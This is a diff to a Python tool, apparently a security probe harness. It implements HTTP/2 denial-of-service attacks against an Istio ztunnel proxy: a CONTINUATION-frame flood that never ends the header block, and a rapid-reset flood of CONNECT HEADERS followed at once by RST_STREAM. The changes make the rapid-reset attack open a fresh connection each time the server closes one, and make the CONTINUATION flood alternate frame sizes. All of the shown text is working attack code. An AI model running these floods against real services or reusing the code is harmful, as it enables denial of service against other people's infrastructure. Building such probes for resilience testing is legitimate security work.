@@ -229,15 +229,17 @@ async def bigframe(a: Attack) -> dict[str, Any]:
 
 async def continuation_flood(a: Attack, max_frames: int = 2000) -> dict[str, Any]:
     """Probe 3: HEADERS without END_HEADERS, then CONTINUATION frames that never end the
-    block (each as large as the ztunnel's max frame allows), until closed."""
+    block, until closed: on even connections as large as the ztunnel's max frame allows (a
+    big header block), on odd ones 1 KiB each (many frames)."""
 
     async def one(i: int) -> dict[str, Any]:
         p = await a.peer()
         await p.handshake()
         block = w.connect_block(p.encoder, a.target)
+        size = 256 * 1024 if i % 2 == 0 else 1024
+        fragment = b"\x00\x05x-pad" + bytes(size - 16)
         t0 = time.monotonic()
         await p.send(w.headers(1, block, end_headers=False))
-        fragment = b"\x00\x05x-pad" + bytes(256 * 1024 - 16)
         frames = 0
         deadline = t0 + a.seconds
         while frames < max_frames and not p.closed and time.monotonic() < deadline:
@@ -246,8 +248,8 @@ async def continuation_flood(a: Attack, max_frames: int = 2000) -> dict[str, Any
                 break
             frames += 1
         await p.wait_closed(max(0.0, deadline - time.monotonic()))
-        out = {"continuation_frames": frames, "bytes": frames * len(fragment),
-               **p.summary(t0)}
+        out = {"fragment": len(fragment), "continuation_frames_sent": frames,
+               "bytes_sent": frames * len(fragment), **p.summary(t0)}
         await p.close()
         return out
 
@@ -255,33 +257,47 @@ async def continuation_flood(a: Attack, max_frames: int = 2000) -> dict[str, Any
     return {"connections": conns}
 
 
-async def rapid_reset(a: Attack, streams: int = 20000, batch: int = 100) -> dict[str, Any]:
-    """Probe 4: HEADERS (a CONNECT to the backend) and at once RST_STREAM, ``streams`` times,
-    on one connection (never more than one stream open)."""
-    p = await a.peer()
-    await p.handshake()
+async def rapid_reset(a: Attack, pairs: int = 20000, batch: int = 100) -> dict[str, Any]:
+    """Probe 4: HEADERS (a CONNECT to the backend) and at once RST_STREAM, ``pairs`` times in
+    all (never more than one stream open), on one connection after another: when the ztunnel
+    ends one, the attacker opens the next (at most ``--connections``)."""
     # Never-indexed literals: every block is the same bytes and leaves HPACK state alone.
     enc = hpack.Encoder()
     block = enc.encode([hpack.NeverIndexedHeaderTuple(b":method", b"CONNECT"),
                         hpack.NeverIndexedHeaderTuple(b":authority", a.target.encode())],
                        huffman=False)
     t0 = time.monotonic()
-    sent = 0
     deadline = t0 + a.seconds
-    while sent < streams and not p.closed and time.monotonic() < deadline:
-        n = min(batch, streams - sent)
-        frames = b"".join(w.headers(2 * (sent + i) + 1, block) + w.rst_stream(2 * (sent + i) + 1)
-                          for i in range(n))
-        if not await p.send(frames, within=max(0.1, deadline - time.monotonic())):
-            break
-        sent += n
-    flood_s = time.monotonic() - t0
-    await p.wait_closed(max(0.0, min(5.0, deadline - time.monotonic())))
-    out = {"streams_sent": sent, "flood_s": round(flood_s, 2),
-           "answered_200": sum(1 for s in p.statuses.values() if s == 200),
-           "resets_from_server": len(p.resets), **p.summary(t0)}
-    await p.close()
-    return out
+    sent = 0
+    conns: list[dict[str, Any]] = []
+    while sent < pairs and len(conns) < a.connections and time.monotonic() < deadline:
+        p = await a.peer()
+        await p.handshake()
+        c0 = time.monotonic()
+        mine = 0
+        while sent < pairs and not p.closed and time.monotonic() < deadline:
+            n = min(batch, pairs - sent)
+            frames = b"".join(w.headers(2 * (mine + i) + 1, block)
+                              + w.rst_stream(2 * (mine + i) + 1) for i in range(n))
+            if not await p.send(frames, within=max(0.1, deadline - time.monotonic())):
+                break
+            sent += n
+            mine += n
+        await p.wait_closed(max(0.0, min(5.0, deadline - time.monotonic())))
+        conns.append({"pairs_sent": mine,
+                      "answered_200": sum(1 for v in p.statuses.values() if v == 200),
+                      **p.summary(c0)})
+        await p.close()
+    codes: dict[str, int] = {}
+    for c in conns:
+        code = c["goaway"]["code"] if c["goaway"] else "none"
+        codes[code] = codes.get(code, 0) + 1
+    closes = [c["closed_after_s"] for c in conns if c["closed_after_s"] is not None]
+    return {"pairs_sent": sent, "connections": len(conns), "goaway_codes": codes,
+            "closed": len(closes), "max_close_s": max(closes, default=None),
+            "max_pairs_per_connection": max((c["pairs_sent"] for c in conns), default=0),
+            "answered_200": sum(c["answered_200"] for c in conns),
+            "seconds": round(time.monotonic() - t0, 2), "first": conns[:2]}
 
 
 async def ping_flood(a: Attack, max_pings: int = 2_000_000, batch: int = 4096) \
